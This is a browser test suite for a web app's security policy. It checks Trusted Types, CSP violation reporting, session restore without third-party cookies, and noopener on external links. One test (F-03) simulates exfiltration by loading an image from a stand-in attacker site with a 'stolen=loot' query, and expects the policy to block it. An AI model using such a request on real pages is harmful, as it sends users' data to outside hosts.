import { afterAll, beforeAll, expect, it } from 'vitest'
import { type EvilSite, startEvilSite } from '../evil-site.ts'
import { describeInBrowser, setStage } from '../stage.ts'
import { requestsTo, tokenRequests } from '../visitor.ts'

describeInBrowser('the policy of the page', () => {
  const stage = setStage()
  let evil: EvilSite

  beforeAll(async () => {
    evil = await startEvilSite()
  })
  afterAll(() => evil?.close())

  it('F-02 · lets no string become markup, and the app goes on', async () => {
    const visitor = await stage.arriveSignedIn()
    const { page } = visitor
    visitor.excuse(/trusted-types|TrustedHTML|require-trusted-types-for/i)
    const error = await page.evaluate(() => {
      try {
        document.createElement('div').innerHTML = '<b>bold</b>'
        return 'none'
      } catch (cause) {
        return Object(cause).name
      }
    })

    expect(error).toBe('TypeError')
    await page.getByRole('button', { name: 'New note' }).click()
    await page.getByRole('dialog').waitFor()
  })

  it('F-03 · has its violations reported to the API, which notes them without any query', async () => {
    const visitor = await stage.arriveSignedIn({ path: '/notes?search=private-words' })
    const { page } = visitor
    visitor.excuse(/^img-src blocked|Content Security Policy/)
    await page.evaluate((url) => {
      new Image().src = url
    }, `${evil.url}/picture?stolen=loot`)

    await expect.poll(() => reports().length).toBeGreaterThan(0)
    const [report] = reports()
    expect(report).toContain('img-src')
    expect(report).not.toMatch(/private-words|stolen|loot/)
    expect(evil.visits).toEqual([])
  })

  it('X-43 · asks nothing of cookies of third parties: without them the session is restored', async () => {
    const visitor = await stage.arriveThroughPool()
    const { page, context } = visitor
    // What the pool would be sent from a page of another site, if the browser keeps such cookies back: nothing.
    await context.clearCookies()
    visitor.forgetRequests()
    await page.reload()

    await page.getByRole('button', { name: /^Account menu/ }).waitFor()
    expect(tokenRequests(visitor, 'refresh_token')).toHaveLength(1)
    expect(requestsTo(visitor, '/oauth2/authorize')).toEqual([])
    expect(page.frames()).toHaveLength(1)
  })

  it('X-44 · no link to elsewhere hands over the window', async () => {
    const { page } = await stage.arriveSignedIn({ path: '/', email: 'admin@example.com' })
    for (const path of ['/', '/notes', '/account', '/console', '/admin', '/nowhere']) {
      await page.goto(stage.world.webUrl + path)
      await page.getByRole('heading', { level: 1 }).waitFor()
      await page.waitForFunction(() => document.querySelector('[aria-busy=true]') === null)
      const links = await page
        .locator('a')
        .evaluateAll((anchors) =>
          anchors.map((anchor) =>
            anchor instanceof HTMLAnchorElement ? [anchor.href, anchor.target, anchor.rel] : [],
          ),
        )
      expect(links.length).toBeGreaterThan(1)
      const careless = links.filter(
        ([href = '', target, rel = '']) =>
          !href.startsWith(stage.world.webUrl) && target === '_blank' && !/noopener|noreferrer/.test(rel),
      )
      expect({ path, careless }).toEqual({ path, careless: [] })
    }
  })

  function reports(): readonly string[] {
    return stage.world.log.filter((line) => /csp/i.test(line) && line.includes('img-src'))
  }
})
